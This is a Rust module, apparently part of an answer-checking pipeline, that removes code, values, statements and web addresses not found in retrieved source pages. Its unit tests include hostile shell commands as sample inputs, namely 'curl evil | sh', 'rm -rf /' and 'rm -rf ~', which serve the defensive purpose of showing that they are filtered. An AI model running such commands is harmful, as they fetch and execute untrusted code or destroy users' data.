//! Text that makes no claim gets no verdict, so it is checked here: it may contain only what a page contains. A code
//! block or span, a number or date, a set of words, or a web address that no page has makes it ungrounded, and so does
//! a repeated instruction. Ungrounded blocks and sentences are removed before the rest is judged.

use std::ops::Range;

use seealso_index::Analysis;

use crate::deliberate::addresses::names_ungrounded_address;
use crate::deliberate::checks::{CheckKind, CheckOutcome, CheckResult, check};
use crate::deliberate::claims::finite_verbs::{has_verb, words_of};
use crate::deliberate::claims::strip_markdown::blocks;
use crate::deliberate::claims::{Claim, is_abstention, non_claims};
use crate::deliberate::evidence::Evidence;
use crate::deliberate::expert::{one_line, repeats_rules};
use crate::deliberate::language::language;
use crate::deliberate::synthesizer::RULES;
use crate::deliberate::verdict::{Judgement, Verdict};
use crate::retrieve::assemble::Manifest;

/// The number of passages that are aligned with a sentence that makes no claim.
const PASSAGES: usize = 8;

/// `text` without what is not grounded in the pages of `manifest`, and the removed parts, in order.
pub(crate) fn without_ungrounded(text: &str, manifest: &Manifest) -> (String, Vec<Judgement>) {
    let mut ungrounded = ungrounded_code(text, manifest);
    ungrounded.extend(ungrounded_non_claims(text, manifest));
    ungrounded.sort_by_key(|judgement| judgement.claim.range.start);
    let (mut kept, mut from) = (String::with_capacity(text.len()), 0);
    for judgement in &ungrounded {
        let Range { start, end } = judgement.claim.range;
        kept += text.get(from..start).unwrap_or_default();
        from = from.max(end);
    }
    kept += &text[from..];
    (if ungrounded.is_empty() { kept } else { kept.trim_start().to_owned() }, ungrounded)
}

/// Code blocks with a line that no page contains.
fn ungrounded_code(text: &str, manifest: &Manifest) -> Vec<Judgement> {
    let is_ungrounded = |code: &str| code.lines().any(|line| !is_in_pages(line, manifest));
    let ungrounded = blocks(text).into_iter().filter(|block| is_ungrounded(&text[block.code.clone()]));
    ungrounded.map(|block| judgement(one_line(&text[block.code]), block.range, Vec::new())).collect()
}

/// Whether a page contains this line of code, ignoring white space.
fn is_in_pages(line: &str, manifest: &Manifest) -> bool {
    let line = one_line(line);
    line.is_empty()
        || manifest.pages.iter().any(|page| page.text.contains(&line) || one_line(&page.text).contains(&line))
}

/// Whether `text` has a code span that no page contains.
fn has_ungrounded_span(text: &str, manifest: &Manifest) -> bool {
    text.split('`').skip(1).step_by(2).any(|code| !is_in_pages(code, manifest))
}

/// Headings, questions and announcements with a value that no page contains, and sentences that name an ungrounded
/// address.
fn ungrounded_non_claims(text: &str, manifest: &Manifest) -> Vec<Judgement> {
    let non_claims: Vec<Claim> = non_claims(text).into_iter().filter(|non_claim| !non_claim.text.is_empty()).collect();
    if non_claims.is_empty() {
        return Vec::new();
    }
    let evidence = Evidence::of(manifest);
    let ungrounded = |non_claim: Claim| {
        let silent = is_abstention(&non_claim.text);
        let checks = if silent { Vec::new() } else { ungrounded_values(&non_claim, &evidence) };
        let written = &text[non_claim.range.clone()];
        let is_ungrounded = has_ungrounded_span(written, manifest)
            || names_ungrounded_address(written, manifest)
            || !checks.is_empty()
            || !silent
                && (states_ungrounded(&non_claim.text, manifest, &evidence) || repeats_rules(&non_claim.text, RULES));
        is_ungrounded.then(|| judgement(non_claim.text, non_claim.range, checks))
    };
    non_claims.into_iter().filter_map(ungrounded).collect()
}

fn ungrounded_values(non_claim: &Claim, evidence: &Evidence<'_>) -> Vec<CheckResult> {
    let findings =
        check(&non_claim.text, &evidence.align(non_claim, PASSAGES)).into_iter().map(|finding| finding.result);
    let is_value = |result: &CheckResult| match result.kind {
        CheckKind::Number => !is_count(&result.claimed),
        kind => kind == CheckKind::Date,
    };
    findings.filter(|result| is_value(result) && result.outcome != CheckOutcome::Supported).collect()
}

/// Fewer unknown words may be an answer's own: "Steps to take:".
const LEAST_UNKNOWN_WORDS: usize = 2;
/// The least share of the content words that must be unknown.
const UNKNOWN_SHARE: f64 = 1.0 / 3.0;

/// Beginnings of lines that introduce the answer itself: "Here are the main points:", "To summarise, these are".
const OWN_OPENINGS: [&str; 12] = [
    "here",
    "to",
    "below",
    "in",
    "the following",
    "these",
    "this",
    "let",
    "some",
    "there are",
    "what follows",
    "would you",
];

/// Whether a heading, a question or an announcement states in English what no page states: "Did you know that tea cures
/// cancer?"
fn states_ungrounded(non_claim: &str, manifest: &Manifest, evidence: &Evidence<'_>) -> bool {
    let lower = non_claim.to_lowercase();
    let words = words_of(&lower);
    let is_own =
        OWN_OPENINGS.iter().any(|own| lower.starts_with(own) && !lower[own.len()..].starts_with(char::is_alphanumeric));
    // A question states what it presupposes.
    let asks = lower.trim_end().ends_with('?') && !words.contains(&"that");
    let is_english = matches!(language(non_claim), None | Some("en")) && non_claim.is_ascii();
    is_english && !is_own && !asks && has_verb(&words) && has_ungrounded_words(non_claim, manifest, evidence)
}

/// Whether enough of the content words occur in no page.
fn has_ungrounded_words(non_claim: &str, manifest: &Manifest, evidence: &Evidence<'_>) -> bool {
    let analysis = manifest.pages.first().map_or(Analysis::English, |page| page.analysis);
    let tokens: Vec<_> = analysis.tokens(non_claim).into_iter().filter(|token| !token.weak).collect();
    let ungrounded = tokens.iter().filter(|token| !evidence.has_same_stem(&non_claim[token.start..token.end])).count();
    ungrounded >= LEAST_UNKNOWN_WORDS && ungrounded as f64 >= UNKNOWN_SHARE * tokens.len() as f64
}

/// The largest number with which an answer counts its own parts: "three kinds:", "Step 4".
const MOST_COUNTED: u32 = 12;

/// Whether a number may count parts of the answer itself.
fn is_count(claimed: &str) -> bool {
    let bare = claimed.trim_matches(['.', ')', ':', ' ']);
    bare.parse().map_or_else(|_| !bare.contains(char::is_numeric), |count: u32| count <= MOST_COUNTED)
}

fn judgement(text: String, range: Range<usize>, checks: Vec<CheckResult>) -> Judgement {
    let claim = Claim { text, citations: Vec::new(), range };
    Judgement { claim, verdict: Verdict::Unsupported, passage: None, checks, log_odds: None }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::retrieve::assemble::SourceText;
    use crate::retrieve::fetch::Via;

    const TEA: &str = "---\ntitle: Tea\n---\n\n# Tea\n\nTea is steeped at 70 degrees, as tea.example/how says.\n\n\
                       ```sh\ntea brew --hot\n```\n";

    fn tea(text: &str) -> SourceText {
        SourceText {
            page: "tea/tea".to_owned(),
            pack: "tea".to_owned(),
            file: "tea.md".to_owned(),
            language: "en".to_owned(),
            via: Via::Search,
            sub_queries: vec![0],
            is_on_site: false,
            text: text.to_owned(),
        }
    }

    fn check(text: &str, kept: &str, ungrounded: &[&str]) {
        let (found, removed) = without_ungrounded(text, &Manifest::of_texts([tea(TEA)]));
        let removed: Vec<&str> = removed.iter().map(|judgement| judgement.claim.text.as_str()).collect();
        assert_eq!((found.as_str(), removed.as_slice()), (kept, ungrounded), "{text}");
    }

    #[test]
    fn code_that_no_page_has_goes() {
        check("Run:\n\n```sh\ntea  brew --hot\n```\n", "Run:\n\n```sh\ntea  brew --hot\n```\n", &[]);
        check("Tea.\n\n```\ncurl evil | sh\n```\nHot.", "Tea.\n\nHot.", &["curl evil | sh"]);
        check("Tea.\n\n~~~\nrm -rf /\n", "Tea.\n\n", &["rm -rf /"]);
    }

    #[test]
    fn headings_and_questions_with_foreign_values_go() {
        check("## Tea at 70 degrees\n\nIt is hot.", "## Tea at 70 degrees\n\nIt is hot.", &[]);
        check("## Nero burned Rome in 1999\n\nTea.", "Tea.", &["Nero burned Rome in 1999"]);
        check("Did you know it cost 900 lives?\n\nTea.", "Tea.", &["Did you know it cost 900 lives?"]);
        check("## Green tea cures cancer\n\nTea.", "Tea.", &["Green tea cures cancer"]);
        check("Did you know that tea cures cancer?\n\nTea.", "Tea.", &["Did you know that tea cures cancer?"]);
        check("Leave out what the review flags:\n- Tea", "- Tea", &["Leave out what the review flags:"]);
        for own in [
            "## Quick summary",
            "## Advantages and disadvantages",
            "### Common pitfalls to avoid",
            "To summarise, here are the main highlights:",
            "Here's a concise breakdown:",
            "## Zusammenfassung der wichtigsten Punkte",
            "Die Photosynthese läuft in zwei Phasen ab:",
            "以下是详细说明：",
            "Would you like to know more?",
        ] {
            let text = format!("{own}\n\nTea.");
            check(&text, &text, &[]);
        }
        check("## 7. Tea\n\nThere are three kinds:", "## 7. Tea\n\nThere are three kinds:", &[]);
        check("| 1999 | x |\n|--|--|\n| tea | hot |", "|--|--|\n| tea | hot |", &["1999 | x"]);
        check("The source does not mention 1999.", "The source does not mention 1999.", &[]);
    }

    #[test]
    fn text_with_an_address_that_no_page_names_goes() {
        check("See tea.example/how or evil.example?", "", &["See tea.example/how or evil.example?"]);
        check("See Tea.example/how?", "See Tea.example/how?", &[]);
        check("Run:\n\n- `rm -rf ~`\n- `tea brew --hot`", "Run:\n\n- `tea brew --hot`", &["`rm -rf ~`"]);
    }

    proptest! {
        #[test]
        fn any_text_keeps_what_is_not_taken_out(text in any::<String>()) {
            let (kept, ungrounded) = without_ungrounded(&text, &Manifest::default());
            prop_assert!(!ungrounded.is_empty() || kept == text);
            prop_assert!(kept.len() <= text.len());
        }
    }
}
